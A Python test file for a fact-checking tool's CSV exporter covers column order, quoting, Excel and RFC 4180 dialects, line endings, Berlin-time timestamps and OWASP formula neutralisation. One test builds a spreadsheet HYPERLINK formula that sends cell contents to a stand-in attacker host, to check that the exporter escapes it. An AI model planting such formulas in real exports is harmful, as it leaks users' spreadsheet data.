"""The CSV contract, on the pure writer: columns, quoting, OWASP neutralisation, dialects. No database."""

from __future__ import annotations

import csv
import datetime
import io
from zoneinfo import ZoneInfo

import pytest

from annotations.lib import formats

BERLIN = ZoneInfo("Europe/Berlin")

# The 18 columns of the contract, then the evidence an archive needs (after them, so old readers keep working).
CONTRACT_HEADER = (
    "claim_id,status,statement,quote,claimant,article_id,article_title,article_source,"
    "article_published,article_url,start,end,sources,source_count,created_by,created_at,verified_by,verified_at"
)
EXPECTED_HEADER = CONTRACT_HEADER + ",source_titles,source_publishers,source_stances,verdict_comment"


def _row(**values: object) -> dict[str, object]:
    row: dict[str, object] = dict.fromkeys(formats.COLUMNS, "")
    row.update(claim_id=1, article_id=2, start=0, end=5, source_count=0)
    row.update(values)
    return row


def _write(rows: list[dict[str, object]], dialect: str = "rfc4180") -> bytes:
    return b"".join(formats.csv_chunks(rows, formats.get_dialect(dialect)))


def _read(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_header_names_the_columns_in_the_contract_order():
    data = _write([])
    assert data == (EXPECTED_HEADER + "\r\n").encode()
    assert tuple(_read(data)[0]) == formats.COLUMNS
    assert formats.COLUMNS[:18] == tuple(CONTRACT_HEADER.split(","))


def test_the_header_can_name_the_columns_for_people_and_is_quoted_where_it_must_be():
    names = {"claim_id": "Behauptung-ID", "status": "Status; Stand"}
    header = formats.header_line(formats.get_dialect("excel"), names).decode()
    assert header.startswith('Behauptung-ID;"Status; Stand";statement;')


def test_a_joined_list_keeps_one_item_per_source_even_when_an_item_holds_the_separator():
    cell = formats.joined(["Haushalt | Stadt Kleinbach", "", "Amt|Blatt"])
    assert cell == "Haushalt ¦ Stadt Kleinbach |  | Amt¦Blatt"
    assert len(cell.split(formats.SOURCE_SEPARATOR)) == 3


TRICKY = [
    "Übergrößenträger in Köln",
    "„Wir schaffen das“, sagte sie",
    "a;b;c",
    "eins, zwei, drei",
    'Er sagte "nein" und ging',
    "Zeile eins\nZeile zwei\n\nAbsatz",
    "Windows\r\nZeilenende",
    "\\.",
    "ß\u00a0NBSP und – Gedankenstrich",
]


@pytest.mark.parametrize("dialect,delimiter", [("rfc4180", ","), ("excel", ";")])
def test_tricky_texts_round_trip_through_csv_reader(dialect: str, delimiter: str):
    rows = [_row(claim_id=i, statement=text, quote=text[::-1], claimant=text) for i, text in enumerate(TRICKY)]
    parsed = _read(_write(rows, dialect), delimiter)
    assert len(parsed) == len(TRICKY) + 1
    for text, line in zip(TRICKY, parsed[1:], strict=True):
        cells = dict(zip(formats.COLUMNS, line, strict=True))
        assert cells["statement"] == text
        assert cells["quote"] == text[::-1]
        assert cells["claimant"] == text


def test_rows_end_with_crlf_and_line_breaks_inside_cells_stay_quoted():
    data = _write([_row(statement="oben\nunten")])
    assert data.endswith(b"\r\n")
    assert b'"oben\nunten"' in data


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_cells_that_a_spreadsheet_would_run_are_prefixed_with_an_apostrophe(trigger: str):
    payload = trigger + 'HYPERLINK("http://böse.example/?x="&A1)'
    rows = [_row(statement=payload, quote=payload, claimant=payload, article_title=payload, sources=payload)]
    cells = dict(zip(formats.COLUMNS, _read(_write(rows))[1], strict=True))
    for column in ("statement", "quote", "claimant", "article_title", "sources"):
        assert cells[column] == "'" + payload


@pytest.mark.parametrize("harmless", ["1+1", "a=b", "E-Mail", "x@example.org", "'schon zitiert", " =leer davor"])
def test_triggers_later_in_the_cell_are_left_alone(harmless: str):
    cells = dict(zip(formats.COLUMNS, _read(_write([_row(statement=harmless)]))[1], strict=True))
    assert cells["statement"] == harmless


def test_number_columns_are_written_as_numbers_even_when_negative():
    row = _row(claim_id=-7, article_id=12, start=0, end=31, source_count=3)
    cells = dict(zip(formats.COLUMNS, _read(_write([row]))[1], strict=True))
    assert (cells["claim_id"], cells["article_id"], cells["start"], cells["end"], cells["source_count"]) == (
        "-7",
        "12",
        "0",
        "31",
        "3",
    )


def test_excel_dialect_starts_with_a_bom_and_separates_with_semicolons():
    data = _write([_row(statement="Preis: 3,50 €; ermäßigt 2,00 €")], "excel")
    assert data.startswith(b"\xef\xbb\xbf" + b"claim_id;status;statement;")
    assert b'"Preis: 3,50 \xe2\x82\xac; erm\xc3\xa4\xc3\x9figt 2,00 \xe2\x82\xac"' in data
    assert _read(data, ";")[1][2] == "Preis: 3,50 €; ermäßigt 2,00 €"


def test_default_dialect_has_no_bom_and_unknown_dialects_are_refused():
    assert _write([]).startswith(b"claim_id,")
    with pytest.raises(ValueError):
        formats.get_dialect("tsv")


def test_times_are_iso_8601_with_the_berlin_offset_in_winter_and_summer():
    winter = datetime.datetime(2026, 1, 15, 11, 30, 5, 999_999, tzinfo=datetime.UTC)
    summer = datetime.datetime(2026, 7, 15, 11, 30, 5, tzinfo=datetime.UTC)
    assert formats.iso_time(winter, BERLIN) == "2026-01-15T12:30:05+01:00"
    assert formats.iso_time(summer, BERLIN) == "2026-07-15T13:30:05+02:00"
    assert formats.iso_time(None, BERLIN) == ""


def test_published_date_keeps_its_precision():
    day = datetime.date(2022, 3, 24)
    assert formats.published_iso(day, "day") == "2022-03-24"
    assert formats.published_iso(day.replace(day=1), "month") == "2022-03"
    assert formats.published_iso(day.replace(month=1, day=1), "year") == "2022"
    assert formats.published_iso(None, "") == ""


def test_crlf_rows_ends_rows_with_crlf_but_keeps_line_breaks_inside_quotes_even_across_chunks():
    copy_output = b'1,"a\nb",x\n2,"he said ""hi""\n",y\n3,plain,z\n'
    expected = b'1,"a\nb",x\r\n2,"he said ""hi""\n",y\r\n3,plain,z\r\n'
    for cut in range(1, len(copy_output)):
        pieces = [copy_output[:cut], copy_output[cut:]]
        assert b"".join(formats.crlf_rows(pieces)) == expected
    single_bytes = [copy_output[i : i + 1] for i in range(len(copy_output))]
    assert b"".join(formats.crlf_rows(single_bytes)) == expected


def test_the_header_leaves_as_its_own_first_chunk_and_rows_come_in_further_chunks():
    rows = [_row(claim_id=i, statement="Ä" * 300) for i in range(500)]
    chunks = list(formats.csv_chunks(rows, formats.get_dialect("rfc4180"), chunk_bytes=16 * 1024))
    assert chunks[0] == (EXPECTED_HEADER + "\r\n").encode()
    assert len(chunks) > 3
    assert len(_read(b"".join(chunks))) == 501


def test_crlf_rows_handles_rows_as_copy_hands_them_over_one_message_each():
    rows = [b'1,"a\nb",x\n', b"2,plain,y\n", b'3,"Er sagte ""ja""",z\n', b'4,"x\n', b'y",w\n']
    expected = b'1,"a\nb",x\r\n2,plain,y\r\n3,"Er sagte ""ja""",z\r\n4,"x\ny",w\r\n'
    assert b"".join(formats.crlf_rows(rows)) == expected
